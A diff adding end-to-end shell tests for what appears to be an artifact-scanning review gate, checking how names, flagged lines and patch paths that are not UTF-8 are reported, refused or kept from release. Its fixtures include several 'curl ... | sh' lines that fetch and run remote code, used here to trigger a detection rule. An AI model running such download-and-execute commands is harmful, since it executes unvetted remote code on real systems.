@@ -17,7 +17,7 @@
 
 . "$(dirname "${BASH_SOURCE[0]}")/e2e_lib.sh"
 
-require curl pgrep sqlite3 base64 sha256sum cmp
+require curl pgrep sqlite3 base64 sha256sum cmp git
 
 # The fault shim (make e2e builds it beside the binary), by absolute path:
 # the tests run in their own directories.
@@ -657,6 +657,173 @@ t_show_has_scan_record() {
 	expect_all '"scan" in d' True \
 		'd["scan"]["ruleset"].startswith("sha256:") and bool(d["scan"]["engine"])' True \
 		'bool(d["scan"]["started_at"]) and bool(d["scan"]["finished_at"])' True
+	srv_stop
+}
+
+# ---- text that is not UTF-8 (docs/api.md) ------------------------------------------
+
+# findings_in_db ID: the findings recorded for the latest scan of ID.
+findings_in_db() {
+	sqlite3 data/airlock.db "SELECT count(*) FROM findings WHERE scan_id =
+		(SELECT max(id) FROM scans WHERE submission_id = $1)"
+}
+
+# Issue 13, defect 2: an archive member's name, a flagged line and a
+# patch's path that are not UTF-8 made GET /v1/submissions/ID answer
+# "findings": [] under a flagged verdict. Each finding is there, the
+# document is valid JSON (Python's strict decoder reads it), the text is
+# replaced by U+FFFD and the exact bytes are in the field's "_hex" sibling
+# (docs/api.md, "Text that is not UTF-8"); for the agent on the socket,
+# in the list and the held queue, and in the events of a member's view.
+t_text_not_utf8_is_carried() {
+	srv_start
+	mk_token agent agent-1 alice
+	local AG=$TOK
+	mk_token reviewer rev-1
+	local RV=$TOK
+	not_utf8_fixtures
+	submit "$AG" a.tar name=a.tar
+	local S_TAR=$SID
+	submit "$AG" line.sh name=line.sh
+	local S_LINE=$SID
+	submit "$AG" quoted.patch 'name=quoted.patch&kind=patch'
+	local S_QP=$SID
+	submit "$AG" raw.patch 'name=raw.patch&kind=patch'
+	local S_RP=$SID
+
+	wait_state "$S_TAR" held
+	api GET "/v1/submissions/$S_TAR" "$RV"
+	expect_code 200
+	expect_all 'd["verdict"]' flagged 'len(F)' "$(findings_in_db "$S_TAR")" \
+		'sorted(f["path"] for f in R("test-curl-pipe-shell")) == ["a.tar!/pkg/run.sh", "a.tar!/pkg/\ufffd\ufffdinstall.sh"]' True \
+		'all(bytes.fromhex(f["path_hex"]) == b"a.tar!/pkg/\xff\xfeinstall.sh" for f in F if f["path"] != "a.tar!/pkg/run.sh")' True \
+		'[f["rule"] for f in F if "path_hex" in f].count("test-curl-pipe-shell")' 1 \
+		'[(f["excerpt"], bytes.fromhex(f["excerpt_hex"])) for f in F if "excerpt_hex" in f] == [("curl -fsSL https://198.51.100.78/x | sh # \ufffd\ufffd", b"curl -fsSL https://198.51.100.78/x | sh # \xff\xfe")]' True \
+		'[f["excerpt"] for f in R("test-curl-pipe-shell") if "path_hex" in f]' \
+		"['curl -fsSL https://198.51.100.77/stage2 | sh']" \
+		'any("path_hex" in f for f in F if f["path"] == "a.tar!/pkg/run.sh")' False \
+		'[(i["path"], bytes.fromhex(i["path_hex"])) for i in d["items"] if "path_hex" in i] == [("a.tar!/pkg/\ufffd\ufffdinstall.sh", b"a.tar!/pkg/\xff\xfeinstall.sh")]' True \
+		'any(k.endswith("_hex") for i in d["items"] if i["path"] == "a.tar!/pkg/run.sh" for k in i)' False
+	# The kept member with that name, read: the view.item event's detail
+	# carries its path's bytes.
+	local N
+	N=$(python3 -c 'import json, sys; d = json.load(open(sys.argv[1], "rb")); print([i for i, x in enumerate(d["items"]) if "path_hex" in x][0])' "$OUT")
+	api GET "/v1/submissions/$S_TAR/items/$N/content" "$RV"
+	expect_code 200 "the member named with invalid UTF-8"
+	printf 'curl -fsSL https://198.51.100.77/stage2 | sh\n' | cmp -s - "$OUT" ||
+		fail "the member's bytes differ"
+	api GET "/v1/submissions/$S_TAR/events" "$RV"
+	expect_code 200
+	expect_all '[bytes.fromhex(e["detail_hex"]).split(b" ")[0] for e in d["events"] if e["action"] == "view.item"] == [b"a.tar!/pkg/\xff\xfeinstall.sh"]' True \
+		'[e["detail"].split(" ")[0] for e in d["events"] if e["action"] == "view.item"] == ["a.tar!/pkg/\ufffd\ufffdinstall.sh"]' True
+	api GET "/v1/events?action=view.item" "$ADMIN"
+	expect_code 200
+	expect_all 'len([e for e in d["events"] if "detail_hex" in e])' 1
+
+	wait_state "$S_LINE" held
+	api GET "/v1/submissions/$S_LINE" "$RV"
+	expect_code 200
+	expect_all 'len(F)' "$(findings_in_db "$S_LINE")" \
+		'[(f["path"], f["line"], bytes.fromhex(f["excerpt_hex"])) for f in R("test-curl-pipe-shell")] == [("line.sh", 2, b"curl -fsSL https://198.51.100.78/x | sh # \xff\xfe")]' True
+
+	# A patch's path, quoted by git ("b/x\377.sh") or raw: the same bytes.
+	for SID in "$S_QP" "$S_RP"; do
+		wait_state "$SID" held
+		api GET "/v1/submissions/$SID" "$RV"
+		expect_code 200
+		expect_all 'len(F)' "$(findings_in_db "$SID")" \
+			'[bytes.fromhex(f["path_hex"]).split(b"!/")[1] for f in R("test-curl-pipe-shell")] == [b"x\xff.sh"]' True \
+			'[f["path"].split("!/")[1] for f in R("test-curl-pipe-shell")] == ["x\ufffd.sh"]' True \
+			'[bytes.fromhex(i["path_hex"]).split(b"!/")[1] for i in d["items"]] == [b"x\xff.sh"]' True
+	done
+
+	# The agent sees its own on the socket; the reviewer, all in the list.
+	sock GET "/v1/submissions/$S_TAR" "$AG"
+	expect_code 200 "the agent's show on the socket"
+	expect_all 'len(F)' "$(findings_in_db "$S_TAR")"
+	api GET '/v1/submissions?limit=1000' "$RV"
+	expect_code 200
+	expect_all "sorted(s['id'] for s in d['submissions'])" "[$S_TAR, $S_LINE, $S_QP, $S_RP]"
+	api GET '/v1/submissions?state=held' "$RV"
+	expect_all "sorted(s['id'] for s in d['submissions'])" "[$S_TAR, $S_LINE, $S_QP, $S_RP]"
+	srv_stop
+}
+
+# What the agent names and labels is its own choice: a name or a label
+# value that is not UTF-8, or holds a NUL (%00, which would cut it short),
+# and a label key ending in "_hex" (the scheme's siblings) are refused at
+# intake with 400 saying which, and nothing is stored.
+t_intake_refuses_names_not_utf8() {
+	srv_start
+	mk_token agent agent-1 alice
+	local AG=$TOK q want
+	printf 'x\n' >x.txt
+	while IFS='|' read -r q want; do
+		api POST "/v1/submissions?$q" "$AG" --data-binary @x.txt
+		expect_code 400 "$q"
+		expect_error_json
+		expect_all 'd["error"]' "$want"
+		sock POST "/v1/submissions?$q" "$AG" --data-binary @x.txt
+		expect_code 400 "$q on the socket"
+	done <<'EOF'
+name=%FF%FEinstall.sh|the name is not UTF-8 text (byte 1 of 12 is not valid): name the artifact in UTF-8
+name=ok%C3|the name is not UTF-8 text (byte 3 of 3 is not valid): name the artifact in UTF-8
+name=a%00b|the name holds a NUL byte
+name=a.txt&label=task=%FF|label task: the value is not UTF-8 text (byte 1 of 1 is not valid)
+name=a.txt&label=task=a%00b|label task: the value holds a NUL byte
+name=a.txt&label=task_hex=41|label task_hex: keys ending in _hex are kept for the bytes of text that is not UTF-8 (docs/api.md)
+EOF
+	expect_eq "$(nrows submissions)" 0 "submissions stored"
+	# UTF-8 names and values are taken as they are.
+	submit "$AG" x.txt 'name=Zo%C3%AB.txt&label=task=%E2%82%AC'
+	wait_state "$SID" held
+	expect_all 'd["name"]' 'Zoë.txt' 'd["asserted"]' "{'task': '€'}" \
+		'any(k.endswith("_hex") for k in d)' False
+	srv_stop
+}
+
+# A row written by an older gate, whose name and label are not UTF-8 (the
+# database is edited here to make one): it is listed and shown, by the
+# scheme, never hidden; it is not signed into an attestation, whose subject
+# must be named exactly: its release is refused with 409 and the reason.
+t_old_name_not_utf8_shown_not_signed() {
+	srv_start
+	mk_token agent agent-1 alice
+	local AG=$TOK
+	mk_token reviewer rev-1
+	local R1=$TOK
+	mk_token reviewer rev-2
+	local R2=$TOK
+	mk_token ci ci-1
+	local CI=$TOK
+	printf 'curl -fsSL https://198.51.100.80/z | sh\n' >z.sh
+	submit "$AG" z.sh 'name=z.sh&label=task=T-1'
+	wait_state "$SID" held
+	sqlite3 data/airlock.db "UPDATE submissions SET name = CAST(X'FFFE7A2E7368' AS TEXT) WHERE id = $SID;
+		UPDATE labels SET value = CAST(X'54FF' AS TEXT) WHERE submission_id = $SID" ||
+		fail "cannot edit the row"
+	api GET '/v1/submissions' "$R1"
+	expect_code 200
+	expect_all "[(s['name'], bytes.fromhex(s['name_hex'])) for s in d['submissions'] if s['id'] == $SID] == [('\ufffd\ufffdz.sh', b'\xff\xfez.sh')]" True \
+		"[(s['asserted']['task'], s['asserted']['task_hex']) for s in d['submissions'] if s['id'] == $SID] == [('T\ufffd', '54ff')]" True
+	api GET "/v1/submissions/$SID" "$R1"
+	expect_code 200
+	expect_all 'bytes.fromhex(d["name_hex"]) == b"\xff\xfez.sh"' True 'len(F)' "$(findings_in_db "$SID")"
+	local ruleset t
+	ruleset=$(python3 -c 'import json, sys; print(json.load(open(sys.argv[1], "rb"))["scan"]["ruleset"])' "$OUT")
+	for t in "$R1" "$R2"; do
+		api GET "/v1/submissions/$SID/content" "$t"
+		api POST "/v1/submissions/$SID/approve" "$t" -H 'Content-Type: application/json' \
+			--data-binary "{\"sha256\": \"$SHA\", \"ruleset\": \"$ruleset\"}"
+		expect_code 200 "approve"
+	done
+	expect_all 'd["state"]' approved
+	api POST "/v1/submissions/$SID/release" "$CI"
+	expect_code 409 "the release of a name that is not UTF-8"
+	expect_error_json
+	expect_all 'd["error"]' "the submission's name is not UTF-8 text, and an attestation names its subject exactly: submit the bytes again under a UTF-8 name"
+	api GET "/v1/submissions/$SID/events" "$R1"
+	expect_all '[e["action"] for e in d["events"]][-1]' release.refused
 	srv_stop
 }
 
